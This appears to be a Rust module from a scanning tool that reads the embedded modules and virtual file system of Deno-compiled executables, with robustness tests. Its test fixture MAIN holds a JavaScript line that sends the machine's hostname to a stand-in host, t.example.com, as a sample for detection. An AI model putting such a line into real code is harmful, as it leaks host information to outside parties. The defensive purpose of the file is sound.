//! `deno compile` executables. Deno 2 writes its payload between two copies of the magic
//! `d3n0l4nd`, in a section libsui adds (an ELF `.note.sui` note, a Mach-O `__SUI` segment, a PE
//! resource `D3N0L4ND`) or, before libsui, appended. Two layouts, both read:
//!
//! Deno 2.1 (`cli/standalone/serialization.rs`):
//!
//! ```text
//! d3n0l4nd | u64 len, metadata JSON | u64 len, npm snapshot
//!          | modules: u32 count, u32 redirects, (u32 len, specifier, u64 offset)*,
//!                     (u32 len, from, u32 len, to)*, u64 len, data
//!                     data per module: u8 media type, u32 len, source,
//!                                      u8 has-transpiled, (u32 len, transpiled)?
//!          | u64 len, VFS JSON | u64 len, VFS file data | source maps … | d3n0l4nd
//! ```
//!
//! Deno 2.2 to 2.9 (`cli/lib/standalone/binary.rs`, `cli/rt/binary.rs`,
//! `cli/lib/standalone/virtual_fs.rs`; 2.9.6 checked with a real `deno compile`):
//!
//! ```text
//! d3n0l4nd | u64 len, metadata JSON | u64 len, npm snapshot
//!          | specifiers: u32 count, (u32 len, specifier, u32 id)*
//!          | redirects: u32 count, (u32 from id, u32 to id)*
//!          | remote modules: u32 count, (u32 id, u8 media type, u32 len, source, u8 flags,
//!                            (u32 len, transpiled)? (u32 len, source map)?
//!                            (u32 len, CJS export analysis)?)*   flags: 1, 2, 4 say which follow
//!          | u64 len, VFS JSON | u64 len, VFS file data | d3n0l4nd
//! ```
//!
//! Since 2.2 the program's own modules are files of the virtual file system, not entries of
//! the module store (which keeps remote `https:`/`jsr:` modules): the VFS JSON is the root
//! directory's entries, `{"Dir":{"n":name,"e":[…]}}`, `{"File":{"n":name,"o":[offset,len],
//! "m":[…transpiled],"s":[…source map],"c":[…],"u":utf8,"t":mtime}}`, `{"Symlink":{"n":…,
//! "p":[…]}}`, offsets into the file data; npm packages sit under
//! `.deno_compile_node_modules/`. (2.1 spelled the keys out: `name`, `entries`, `offset`, `len`.)
//!
//! Modules are kept as written: TypeScript stays TypeScript, which the JS front end reads, not
//! the transpiled copy. Store modules are named by specifier (`file:///…`, `https://…`), VFS
//! files by their path in the VFS (`main.ts`, `lib/util.ts`); files that are not source
//! (JSON, `--include`d assets, native addons) are `files`. Deno 1's eszip payloads are not
//! read (the reader returns `None` and the binary's strings are searched as for any native
//! executable).
//!
//! Example: `app` → `app › main.ts`, `app › https://deno.land/std/fmt/colors.ts`.

use std::collections::HashMap;

use serde_json::Value;

use super::pkg::is_source_name;
use super::{Embedded, EmbeddedFile, EmbeddedModule, Fields};

const MAGIC: &[u8] = b"d3n0l4nd";
/// More modules than this is not a module table.
const MAX_MODULES: usize = 1 << 20;
/// Media types of source the front end reads: JavaScript, JSX, MJS, CJS, TypeScript, MTS,
/// CTS, TSX (not declarations, JSON, Wasm, CSS, source maps). The numbers are the same in
/// both layouts.
const SOURCE_MEDIA: &[u8] = &[0, 1, 2, 3, 4, 5, 6, 10];

/// The modules of a `deno compile` executable; `None` when no payload reads.
pub fn deno_modules(bytes: &[u8]) -> Option<Embedded<'_>> {
    // The magic also stands in the runtime's own code: only a payload that reads counts. A
    // failed try costs the bytes its tables walked; past a few times the input, no more tries
    // (decoys must not make the search quadratic).
    let mut budget = bytes.len().saturating_mul(4).saturating_add(1 << 20);
    memchr::memmem::find_iter(bytes, MAGIC).find_map(|at| {
        if budget == 0 {
            return None;
        }
        let data = &bytes[at + MAGIC.len()..];
        read_current(data, &mut budget).or_else(|| read_payload(data, &mut budget))
    })
}

/// Charges the bytes a parse walked to the search's budget.
fn charge(budget: &mut usize, fields: &Fields) {
    *budget = budget.saturating_sub(fields.at);
}

/// Metadata (a JSON object) and the npm snapshot, the same in both layouts.
fn read_head<'a>(fields: &mut Fields<'a>) -> Option<()> {
    let metadata = fields.with_u64_len()?;
    if !(metadata.starts_with(b"{") && metadata.ends_with(b"}")) {
        return None;
    }
    fields.with_u64_len()?; // npm snapshot
    Some(())
}

/// A count that the bytes left could hold, `per` bytes at least each.
fn count(fields: &mut Fields, per: usize) -> Option<usize> {
    let n = fields.u32()?;
    (n <= MAX_MODULES && n.checked_mul(per)? <= fields.data.len().saturating_sub(fields.at))
        .then_some(n)
}

/// A module of the store: a module when it is source, a file otherwise.
fn push_store_module<'a>(out: &mut Embedded<'a>, specifier: String, media: u8, source: &'a [u8]) {
    match std::str::from_utf8(source) {
        Ok(text) if SOURCE_MEDIA.contains(&media) => out.modules.push(EmbeddedModule {
            name: specifier,
            text: text.into(),
        }),
        _ => out.files.push(EmbeddedFile {
            name: specifier,
            bytes: source.into(),
        }),
    }
}

/// Deno 2.2+.
fn read_current<'a>(data: &'a [u8], budget: &mut usize) -> Option<Embedded<'a>> {
    let mut fields = Fields::new(data, 0);
    let tables = current_tables(&mut fields);
    charge(budget, &fields);
    let (specifiers, remote, vfs, files) = tables?;
    let mut out = Embedded::new("deno");
    for (id, media, source) in remote {
        let specifier = specifiers
            .get(&id)
            .cloned()
            .unwrap_or_else(|| format!("deno module #{id}"));
        push_store_module(&mut out, specifier, media, source);
    }
    read_vfs(&mut out, vfs, files);
    Some(out)
}

/// Remote modules by specifier id: (id, media type, source).
type Remote<'a> = Vec<(usize, u8, &'a [u8])>;

/// The 2.2+ tables up to the closing magic: specifiers, remote modules, VFS JSON, VFS data.
type Tables<'a> = (HashMap<usize, String>, Remote<'a>, &'a [u8], &'a [u8]);

fn current_tables<'a>(fields: &mut Fields<'a>) -> Option<Tables<'a>> {
    read_head(fields)?;
    let mut specifiers = HashMap::new();
    for _ in 0..count(fields, 8)? {
        let specifier = String::from_utf8_lossy(fields.with_u32_len()?).into_owned();
        specifiers.insert(fields.u32()?, specifier);
    }
    let redirects = count(fields, 8)?;
    fields.bytes(redirects * 8)?;
    let mut remote = Vec::new();
    for _ in 0..count(fields, 10)? {
        let id = fields.u32()?;
        let media = fields.u8()?;
        let source = fields.with_u32_len()?;
        let flags = fields.u8()?;
        for flag in [1, 2, 4] {
            if flags & flag != 0 {
                fields.with_u32_len()?; // transpiled, source map, CJS export analysis
            }
        }
        remote.push((id, media, source));
    }
    let vfs = fields.with_u64_len()?;
    let files = fields.with_u64_len()?;
    (fields.bytes(MAGIC.len())? == MAGIC).then_some((specifiers, remote, vfs, files))
}

/// Deno 2.1.
fn read_payload<'a>(data: &'a [u8], budget: &mut usize) -> Option<Embedded<'a>> {
    let mut fields = Fields::new(data, 0);
    let read = payload_2_1(&mut fields);
    charge(budget, &fields);
    read
}

fn payload_2_1<'a>(fields: &mut Fields<'a>) -> Option<Embedded<'a>> {
    read_head(fields)?;
    let (count, redirects) = (fields.u32()?, fields.u32()?);
    if count > MAX_MODULES || redirects > MAX_MODULES {
        return None;
    }
    // Not sized from the count: the bytes decide how many entries there are.
    let mut specifiers = Vec::new();
    for _ in 0..count {
        let specifier = std::str::from_utf8(fields.with_u32_len()?).ok()?;
        specifiers.push((specifier, fields.u64()?));
    }
    for _ in 0..redirects {
        fields.with_u32_len()?;
        fields.with_u32_len()?;
    }
    let store = fields.with_u64_len()?;
    let (vfs, files) = (fields.with_u64_len()?, fields.with_u64_len()?);
    for _ in 0..fields.u32()? {
        fields.with_u32_len()?; // source map: specifier, map
        fields.with_u32_len()?;
    }
    if fields.bytes(MAGIC.len())? != MAGIC {
        return None;
    }
    let mut out = Embedded::new("deno");
    for (specifier, offset) in specifiers {
        let mut entry = Fields::new(store, offset);
        let media = entry.u8()?;
        let source = entry.with_u32_len()?;
        push_store_module(&mut out, specifier.to_string(), media, source);
    }
    read_vfs(&mut out, vfs, files);
    Some(out)
}

/// The files of a virtual file system: source as modules, the rest as files.
fn read_vfs<'a>(out: &mut Embedded<'a>, vfs: &[u8], files: &'a [u8]) {
    // serde_json refuses nesting past 128 levels, which bounds the walk below.
    let Ok(Value::Array(entries)) = serde_json::from_slice::<Value>(vfs) else {
        return;
    };
    walk(out, "", &entries, files);
}

/// A member spelled short (2.2+) or long (2.1).
fn member<'v>(v: &'v Value, short: &str, long: &str) -> Option<&'v Value> {
    v.get(short).or_else(|| v.get(long))
}

fn walk<'a>(out: &mut Embedded<'a>, dir: &str, entries: &[Value], files: &'a [u8]) {
    for entry in entries {
        if let Some(d) = entry.get("Dir") {
            let (Some(name), Some(Value::Array(children))) = (
                member(d, "n", "name").and_then(Value::as_str),
                member(d, "e", "entries"),
            ) else {
                continue;
            };
            walk(out, &join(dir, name), children, files);
        } else if let Some(f) = entry.get("File") {
            let Some(name) = member(f, "n", "name").and_then(Value::as_str) else {
                continue;
            };
            let place = match f.get("o").and_then(Value::as_array).map(Vec::as_slice) {
                Some([offset, len]) => offset.as_u64().zip(len.as_u64()),
                _ => f
                    .get("offset")
                    .and_then(Value::as_u64)
                    .zip(f.get("len").and_then(Value::as_u64)),
            };
            let Some(data) = place.and_then(|(o, l)| {
                let (o, l) = (usize::try_from(o).ok()?, usize::try_from(l).ok()?);
                files.get(o..o.checked_add(l)?)
            }) else {
                continue;
            };
            let path = join(dir, name);
            match std::str::from_utf8(data) {
                Ok(text) if is_source_name(&path) => out.modules.push(EmbeddedModule {
                    name: path,
                    text: text.into(),
                }),
                _ => out.files.push(EmbeddedFile {
                    name: path,
                    bytes: data.into(),
                }),
            }
        }
        // Symlinks point at entries read where they are.
    }
}

fn join(dir: &str, name: &str) -> String {
    if dir.is_empty() {
        name.to_string()
    } else {
        format!("{dir}/{name}")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::executable::embedded_modules;

    /// (specifier, media type, source, transpiled source).
    type Module<'m> = (&'m str, u8, &'m [u8], Option<&'m [u8]>);

    /// A Deno 2.1 payload with these modules.
    fn payload(modules: &[Module]) -> Vec<u8> {
        let u32le = |n: usize| (n as u32).to_le_bytes();
        let u64le = |n: usize| (n as u64).to_le_bytes();
        let mut store = Vec::new();
        let mut table = Vec::new();
        for (specifier, media, source, transpiled) in modules {
            table.extend_from_slice(&u32le(specifier.len()));
            table.extend_from_slice(specifier.as_bytes());
            table.extend_from_slice(&u64le(store.len()));
            store.push(*media);
            store.extend_from_slice(&u32le(source.len()));
            store.extend_from_slice(source);
            match transpiled {
                Some(t) => {
                    store.push(1);
                    store.extend_from_slice(&u32le(t.len()));
                    store.extend_from_slice(t);
                }
                None => store.push(0),
            }
        }
        let metadata = br#"{"argv":[],"entrypoint_key":"file:///app/main.ts"}"#;
        let mut p = MAGIC.to_vec();
        p.extend_from_slice(&u64le(metadata.len()));
        p.extend_from_slice(metadata);
        p.extend_from_slice(&u64le(0)); // no npm snapshot
        p.extend_from_slice(&u32le(modules.len()));
        p.extend_from_slice(&u32le(0)); // no redirects
        p.extend_from_slice(&table);
        p.extend_from_slice(&u64le(store.len()));
        p.extend_from_slice(&store);
        p.extend_from_slice(&u64le(2));
        p.extend_from_slice(b"{}"); // virtual file system
        p.extend_from_slice(&u64le(0));
        p.extend_from_slice(&u32le(0)); // source maps
        p.extend_from_slice(MAGIC);
        p
    }

    const MAIN: &[u8] = b"const os = await import('node:os');\nawait fetch('https://t.example.com/?h=' + os.hostname());\n";

    #[test]
    fn deno_payload_yields_its_source_modules() {
        // The runtime's own copy of the magic comes first, as in a real binary.
        let mut exe = b"\x7fELF\x02\x01\x01\0 runtime code mentions d3n0l4nd here ".to_vec();
        exe.extend_from_slice(&payload(&[
            ("file:///app/main.ts", 4, MAIN, Some(b"transpiled")),
            ("file:///app/data.json", 11, b"{}", None),
            (
                "https://deno.land/std/fmt/colors.ts",
                4,
                b"export const red = (s: string) => s;",
                None,
            ),
        ]));
        let e = embedded_modules(&exe).expect("payload found");
        assert_eq!(e.format, "deno");
        let names: Vec<&str> = e.modules.iter().map(|m| m.name.as_str()).collect();
        assert_eq!(
            names,
            vec!["file:///app/main.ts", "https://deno.land/std/fmt/colors.ts"]
        );
        assert_eq!(
            e.modules[0].text.as_bytes(),
            MAIN,
            "the source as written, not the transpiled text"
        );
        assert_eq!(e.files.len(), 1);
    }

    #[test]
    fn broken_payloads_read_as_nothing() {
        let good = payload(&[("file:///app/main.ts", 4, MAIN, None)]);
        for cut in 0..good.len() - MAGIC.len() {
            let _ = deno_modules(&good[..cut]);
        }
        assert!(deno_modules(&good[..good.len() / 2]).is_none());
        // A module offset past the store, a count no table has: no panic, no modules.
        let mut bad = good.clone();
        let at = memchr::memmem::find(&bad, b"main.ts").unwrap() + b"main.ts".len();
        bad[at..at + 8].copy_from_slice(&u64::MAX.to_le_bytes());
        assert!(deno_modules(&bad).is_none());
        assert!(deno_modules(b"d3n0l4nd\xff\xff\xff\xff\xff\xff\xff\xff").is_none());
        assert!(deno_modules(b"a plain binary that only names d3n0l4nd").is_none());
    }

    /// `deno compile` 2.9.6's payload (see `scripts/gen-packer-fixtures.sh`).
    const DENO_2_9: &[u8] = include_bytes!("../../tests/fixtures/executables/deno-2.9");

    #[test]
    fn deno_2_9_payload_yields_its_vfs_modules_and_files() {
        let e = embedded_modules(DENO_2_9).expect("payload found");
        assert_eq!(e.format, "deno");
        let modules: Vec<&str> = e.modules.iter().map(|m| m.name.as_str()).collect();
        assert_eq!(
            modules,
            [
                ".deno_compile_node_modules/localhost/is-number/7.0.0/index.js",
                "lib/greet.ts",
                "main.ts"
            ]
        );
        let main = &e.modules[2].text;
        assert!(
            main.starts_with("import { hostname } from \"node:os\";"),
            "{main}"
        );
        assert!(
            main.contains("const payload: string"),
            "the TypeScript as written, not the transpiled copy"
        );
        assert!(e.modules[1].text.contains("telltale-deno-fixture"));
        let files: Vec<&str> = e.files.iter().map(|f| f.name.as_str()).collect();
        assert_eq!(
            files,
            [
                ".deno_compile_node_modules/localhost/is-number/7.0.0/LICENSE",
                ".deno_compile_node_modules/localhost/is-number/7.0.0/README.md",
                ".deno_compile_node_modules/localhost/is-number/7.0.0/package.json",
                "config.json"
            ]
        );
        assert_eq!(
            e.files[3].bytes.as_ref(),
            b"{\"endpoint\":\"https://t.example.com\"}\n"
        );
        assert!(e.unreadable.is_empty());
    }

    /// A Deno 2.2+ payload: remote modules (id, specifier, media, source, flags) and a VFS.
    fn current_payload(modules: &[(u32, &str, u8, &[u8], u8)], vfs: &str, files: &[u8]) -> Vec<u8> {
        let u32le = |n: usize| (n as u32).to_le_bytes();
        let u64le = |n: usize| (n as u64).to_le_bytes();
        let metadata = br#"{"argv":[],"entrypoint_key":"main.ts"}"#;
        let mut p = MAGIC.to_vec();
        p.extend_from_slice(&u64le(metadata.len()));
        p.extend_from_slice(metadata);
        p.extend_from_slice(&u64le(0)); // no npm snapshot
        p.extend_from_slice(&u32le(modules.len()));
        for (id, specifier, ..) in modules {
            p.extend_from_slice(&u32le(specifier.len()));
            p.extend_from_slice(specifier.as_bytes());
            p.extend_from_slice(&id.to_le_bytes());
        }
        p.extend_from_slice(&u32le(1)); // one redirect
        p.extend_from_slice(&[0; 8]);
        p.extend_from_slice(&u32le(modules.len()));
        for (id, _, media, source, flags) in modules {
            p.extend_from_slice(&id.to_le_bytes());
            p.push(*media);
            p.extend_from_slice(&u32le(source.len()));
            p.extend_from_slice(source);
            p.push(*flags);
            for flag in [1, 2, 4] {
                if flags & flag != 0 {
                    p.extend_from_slice(&u32le(3));
                    p.extend_from_slice(b"xyz");
                }
            }
        }
        p.extend_from_slice(&u64le(vfs.len()));
        p.extend_from_slice(vfs.as_bytes());
        p.extend_from_slice(&u64le(files.len()));
        p.extend_from_slice(files);
        p.extend_from_slice(MAGIC);
        p
    }

    #[test]
    fn deno_current_layout_reads_remote_modules_and_both_vfs_spellings() {
        let vfs = r#"[{"Dir":{"n":"src","e":[{"File":{"n":"a.ts","o":[0,5],"u":true,"m":[5,1]}},{"Symlink":{"n":"b.ts","p":["src","a.ts"]}}]}},{"Dir":{"name":"old","entries":[{"File":{"name":"b.js","offset":5,"len":1}}]}},{"File":{"n":"far.js","o":[4,99]}},{"File":{"n":"huge.js","o":[18446744073709551615,2]}}]"#;
        let p = current_payload(
            &[
                (7, "https://deno.land/x/mod.ts", 4, MAIN, 1 | 2 | 4),
                (9, "https://deno.land/x/data.json", 11, b"{}", 8),
            ],
            vfs,
            b"a();Xb",
        );
        let e = deno_modules(&p).expect("payload found");
        let modules: Vec<&str> = e.modules.iter().map(|m| m.name.as_str()).collect();
        assert_eq!(
            modules,
            ["https://deno.land/x/mod.ts", "src/a.ts", "old/b.js"]
        );
        assert_eq!(
            (e.modules[0].text.as_bytes(), e.modules[1].text.as_ref()),
            (MAIN, "a();X")
        );
        assert_eq!(
            e.files.iter().map(|f| f.name.as_str()).collect::<Vec<_>>(),
            ["https://deno.land/x/data.json"]
        );
        // A count no table has, cut anywhere: no panic, nothing read.
        for cut in 0..p.len() {
            let _ = deno_modules(&p[..cut]);
        }
        let mut bad = p.clone();
        let at = memchr::memmem::find(&p, b"}").unwrap() + 1 + 8; // the specifier count
        bad[at..at + 4].copy_from_slice(&u32::MAX.to_le_bytes());
        assert!(deno_modules(&bad).is_none());
    }

    #[test]
    fn deno_decoy_magics_cost_bounded_time() {
        // Decoys whose tables each walk to the end: the search gives up instead of going quadratic.
        let mut decoy = MAGIC.to_vec();
        decoy.extend_from_slice(&2u64.to_le_bytes());
        decoy.extend_from_slice(b"{}");
        decoy.extend_from_slice(&(1u64 << 20).to_le_bytes()); // an npm snapshot over the rest
        let mut exe = decoy.repeat(20_000);
        exe.extend_from_slice(&vec![0; 1 << 20]);
        let started = std::time::Instant::now();
        assert!(deno_modules(&exe).is_none());
        assert!(started.elapsed().as_secs() < 5, "{:?}", started.elapsed());
        // Plain repeated magics cost nothing: the payload after them is found.
        let mut exe = MAGIC.repeat(50_000);
        exe.extend_from_slice(DENO_2_9);
        assert_eq!(deno_modules(&exe).expect("payload found").modules.len(), 3);
    }

    #[test]
    fn deno_2_9_truncation_at_every_cut_never_panics() {
        for cut in 0..DENO_2_9.len() {
            let e = deno_modules(&DENO_2_9[..cut]);
            assert!(e.is_none(), "cut {cut}: the closing magic is last");
        }
    }
}
